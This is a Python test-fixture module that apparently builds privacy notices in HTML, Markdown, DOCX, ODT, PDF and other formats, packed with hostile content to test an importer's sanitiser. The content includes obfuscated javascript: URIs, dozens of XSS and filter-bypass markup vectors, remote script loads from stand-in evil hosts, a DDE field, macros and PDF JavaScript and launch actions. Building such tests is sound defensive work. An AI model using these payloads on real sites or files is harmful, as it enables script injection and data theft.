"""Files that want something done: scripts, addresses that act, hidden markup.

Each maker writes a real notice in one format with all of it inside, so that it is
imported, and what came of it can be looked at.
"""

from __future__ import annotations

from html import escape

from tests.importing.formats import office_files as office
from tests.importing.formats.pdf.pdf_files import PDFPage, first_more, write_pdf


#: No word of a file, so whatever has it was let through.
MARK = "evil"
SECTIONS = {
    "Privacy notice": "",
    "1. Controller": "Example Bakery Ltd, info@bakery.example",
    "2. Purposes of processing": "We process personal data to bake and deliver bread.",
    "3. Retention": "We keep your personal data for two years.",
    "4. Your rights": "You have the right to access your personal data.",
}
#: The same line by line, without the empty ones.
LINES = [line for pair in SECTIONS.items() for line in pair if line]
_DATA = "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
#: Addresses that run something or read the visitor's disk, plain and in disguise.
ADDRESSES = (
    "javascript:evil(1)",
    "JaVaScRiPt:evil(2)",
    " javascript:evil(3)",
    "java\tscript:evil(4)",
    "java\nscript:evil(5)",
    "javascript\t:evil(6)",
    "\u00a0javascript:evil(7)",
    "java\u00adscript:evil(8)",
    "\u200bjavascript:evil(9)",
    "java\u202escript:evil(10)",
    "ｊavascript:evil(11)",
    "javascript\uff1aevil(12)",
    "javascript://https://shop.example/%0Aevil(13)",
    "vbscript:evil(14)",
    "livescript:evil(15)",
    "data:text/html,<script>evil(16)</script>",
    _DATA + "#evil17",
    "file:///etc/passwd#evil18",
    "\\\\evil19.example\\share",
    "//evil20.example/",
    "blob:https://evil21.example/",
    "view-source:javascript:evil(22)",
    "ms-word:ofe|u|https://evil23.example/x.docm",
    "intent://evil24#Intent;scheme=javascript;end",
    "steam://evil25",
    "https&colon;javascript:evil(26)",
    "jar:https://evil27.example!/",
    "wagtail:evil(28)",
    "javascript:%65vil(29);https://a.example",
)
#: Written as they are in HTML: entities that a parser decodes.
ENTITIES = (
    "&#106;avascript:evil(40)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;evil(41)",
    "javascript&colon;evil(42)",
    "java&Tab;script&colon;evil(43)",
    "java&NewLine;script:evil(44)",
    "&#0000106&#0000097vascript:evil(45)",
    "&#1;javascript:evil(46)",
    "&NoBreak;javascript:evil(47)",
)
#: A safe address that shows another than it leads to.
DISGUISED = "https://shop.example/\u202efdp.exe\u200b\u2066#x"
MARKUP = (
    """\
<script>evil(50)</script><SCRIPT SRC=//evil51.example/x.js></SCRIPT >
<scr<script>ipt>evil(52)</scr</script>ipt>
<svg onload=evil(53)><script>evil(54)</script><a xlink:href="javascript:evil(55)">
<animate attributeName=href values=javascript:evil(56) /><text>svg</text></a></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1
 onerror=evil(57)&gt;"></mglyph></table></mtext></math>
<style>@import "https://evil58.example/x.css"; p { width: expression(evil(59));
 background: url(javascript:evil(60)) }</style>
<p style="background:url(javascript:evil(61));behavior:url(#x)" onclick="evil(62)"
 onmouseover=evil(63) OnFocus='evil(64)'>A paragraph with events.</p>
<meta http-equiv="refresh" content="0;url=javascript:evil(65)">
<base href="https://evil66.example/"><link rel=preload as=script href=//evil67.example>
<link rel="stylesheet" href="//evil68.example/x.css">
<iframe src="javascript:evil(69)" srcdoc="<script>evil(70)</script>">frame</iframe>
<object data="data:text/html,<script>evil(71)</script>"></object><embed src=//evil72>
<form action="javascript:evil(73)"><input formaction="javascript:evil(74)" autofocus
 onfocus=evil(75)><button formaction="javascript:evil(76)">Send</button></form>
<img src=x onerror=evil(77)><img src="javascript:evil(78)" srcset="//evil79.example 2x">
<video poster=javascript:evil(80)><source onerror="evil(81)"></video>
<audio src=x onerror=evil(82)></audio>
<template><script>evil(83)</script></template>
<div><template shadowrootmode=open><img src=x onerror=evil(84)></template></div>
<noscript><p title="</noscript><img src=x onerror=evil(85)>"></noscript>
<textarea><img src=x onerror=evil(86)></textarea>
<title><img src=x onerror=evil(87)></title>
<xmp><img src=x onerror=evil(88)></xmp>
<plaintext-x><noembed><img src=x onerror=evil(89)></noembed>
<details open ontoggle=evil(90)><summary>More</summary>Details.</details>
<p/onclick=evil(91)>Slash.</p><p """
    + """"onclick=evil(92)>Quote.</p>
<!--><img src=x onerror=evil(93)>--><![CDATA[><img src=x onerror=evil(94)>]]>
<?xml-stylesheet href="javascript:evil(95)"?><!DOCTYPE x SYSTEM "file:///etc/passwd">
<p>&lt;script&gt;evil(96)&lt;/script&gt; &lt;img src=x onerror=evil(97)&gt;</p>
<embed embedtype="media" url="https://evil98.example"><a linktype="page" id="1">page</a>
<h2 onclick="evil(99)">5. <img src=x onerror=evil(100)>Cookies</h2>
"""
)


def links() -> str:
    """A link in HTML for each address, quoted in each of the ways."""
    quoted = [*map(escape, ADDRESSES), *ENTITIES, DISGUISED]
    return "".join(
        f'<p>Link <a href="{address}">number {number}</a> '
        f"<a HREF='{address}' target=_blank>again {number}</a></p>\n"
        for number, address in enumerate(quoted)
    )


def html_notice() -> bytes:
    body = "".join(
        f"<h2>{heading}</h2><p>{text}</p>\n" for heading, text in SECTIONS.items()
    )
    page = f"<title>Notice<script>evil()</script></title>{body}{MARKUP}{links()}"
    return f"<!doctype html><html lang=en><body>{page}</body></html>".encode()


def mht_notice() -> bytes:
    head = (
        b"From: <Saved by Blink>\r\nSubject: Privacy notice\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/related; boundary="cut"\r\n\r\n--cut\r\n'
    )
    script = b"--cut\r\nContent-Type: application/javascript\r\n\r\nevil(1)\r\n"
    kind = b"Content-Type: text/html; charset=utf-8\r\n\r\n"
    return head + kind + html_notice() + b"\r\n" + script + b"--cut--\r\n"


def text_notice() -> bytes:
    lines = [f"{heading}\n\n{text}\n" for heading, text in SECTIONS.items()]
    return "\n".join([*lines, MARKUP, *ADDRESSES, links(), DISGUISED]).encode()


def markdown_notice() -> bytes:
    lines = [f"## {heading}\n\n{text}\n" for heading, text in SECTIONS.items()]
    lines += [f"[number]({address})\n" for address in ADDRESSES]
    lines += [f"[again](<{address}>) ![x]({address})\n" for address in ADDRESSES]
    lines += [
        f"<{address}>\n\n[ref{n}]\n\n[ref{n}]: {address}\n"
        for n, address in enumerate(ADDRESSES)
    ]
    return "\n".join([*lines, MARKUP, links(), f"[shop]({DISGUISED})"]).encode()


def docx_notice() -> bytes:
    body = "".join(
        office.paragraph(heading, look="<w:b/>") + office.paragraph(text)
        for heading, text in SECTIONS.items()
    )
    body += office.paragraph(escape(MARKUP))
    related = []
    for number, address in enumerate(_xml_safe([*ADDRESSES, DISGUISED])):
        related.append((f"l{number}", "hyperlink", address))
        run = f"<w:r><w:t>number {number}</w:t></w:r>"
        field = (
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
            f'HYPERLINK "{address}"</w:instrText></w:r><w:r><w:fldChar '
            f'w:fldCharType="separate"/></w:r>{run}<w:r><w:fldChar '
            'w:fldCharType="end"/></w:r>'
        )
        link = f'<w:hyperlink r:id="l{number}">{run}</w:hyperlink>'
        body += office.paragraph("Link", extra=link + field)
    related += [
        ("t", "attachedTemplate", "file:///etc/passwd"),
        ("i", "image", "https://evil110.example/x.png"),
        ("o", "oleObject", "https://evil111.example/x"),
        ("f", "aFChunk", "../../../etc/passwd"),
        ("m", "vbaProject", "vbaProject.bin"),
    ]
    body += office.paragraph(
        "DDE",
        extra='<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
        'DDEAUTO c:\\\\evil.exe "x" INCLUDETEXT "file:///etc/passwd"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        '<w:altChunk r:id="f"/><w:object><o:OLEObject xmlns:o="o" r:id="o"/>'
        "</w:object>",
    )
    return office.docx(body, related=related)


def odt_body() -> str:
    body = "".join(
        f'<text:h text:outline-level="2">{heading}</text:h><text:p>{text}</text:p>'
        for heading, text in SECTIONS.items()
    )
    body += f"<text:p>{escape(MARKUP)}</text:p>"
    for number, address in enumerate(_xml_safe([*ADDRESSES, DISGUISED])):
        body += (
            f'<text:p>Link <text:a xlink:href="{address}">number {number}</text:a>'
            "</text:p>"
        )
    return body + (
        '<text:p><draw:frame><draw:object xlink:href="file:///etc/passwd"/>'
        '<draw:image xlink:href="https://evil112.example/x.png"/></draw:frame>'
        '<office:event-listeners xmlns:script="urn:x"><script:event-listener '
        'xlink:href="vnd.sun.star.script:evil"/></office:event-listeners></text:p>'
        '<text:section text:name="s"><text:section-source '
        'xlink:href="file:///etc/passwd"/><text:p>A section.</text:p></text:section>'
    )


def odt_notice() -> bytes:
    macro = '<script:module xmlns:script="x">evil()</script:module>'
    return office.odt(odt_body(), **{"Basic/Standard/Module1.xml": macro})


def flat_notice() -> bytes:
    return office.flat_odt(odt_body())


def pdf_notice() -> bytes:
    page = PDFPage()
    top = 800.0
    for heading, text in SECTIONS.items():
        page.text(72, top, heading, 14, "bold")
        page.text(72, top - 16, text)
        top -= 40
    shown = [line.encode("cp1252", "replace") for line in MARKUP.splitlines()]
    for line in shown:
        page.text(72, top, line, 7)
        top -= 9
    kids, objects = [], []
    for number, address in enumerate([*ADDRESSES, DISGUISED]):
        page.text(400, 800 - 14 * number, f"number {number}")
        uri = b"<" + address.encode().hex().encode() + b">"
        objects.append(
            b"<</Type/Annot/Subtype/Link/Rect[395 %d 500 %d]/A<</S/URI/URI%s>>>>"
            % (796 - 14 * number, 810 - 14 * number, uri)
        )
    actions = [
        b"/A<</S/Launch/F(/bin/evil)>>",
        b"/A<</S/JavaScript/JS(evil\\(\\))>>",
        b"/A<</S/GoToR/F(file:///etc/passwd)/D[0/Fit]>>",
        b"/A<</S/SubmitForm/F(https://evil113.example)>>",
    ]
    for action in actions:
        objects.append(b"<</Type/Annot/Subtype/Link/Rect[0 0 90 90]" + action + b">>")
    first = first_more([page])
    kids = b" ".join(b"%d 0 R" % (first + n) for n in range(len(objects)))
    page.entries = b"/Annots[" + kids + b"]/AA<</O<</S/JavaScript/JS(evil\\(1\\))>>>>"
    catalog = (
        b"/OpenAction<</S/JavaScript/JS(evil\\(2\\))>>/Names<</JavaScript<</Names[(a)"
        b"<</S/JavaScript/JS(evil\\(3\\))>>]>>/EmbeddedFiles<</Names[(evil.exe)"
        b"<</Type/Filespec/F(evil.exe)>>]>>>>"
    )
    return write_pdf(
        page, catalog=catalog, info=b"/Title(<script>evil\\(\\)</script>)", more=objects
    )


def _xml_safe(addresses: list[str]) -> list[str]:
    return [escape(address) for address in addresses]


#: The file of each format that has all of it.
NOTICES = {
    "notice.html": html_notice,
    "notice.mht": mht_notice,
    "notice.txt": text_notice,
    "notice.md": markdown_notice,
    "notice.docx": docx_notice,
    "notice.odt": odt_notice,
    "notice.fodt": flat_notice,
    "notice.pdf": pdf_notice,
}
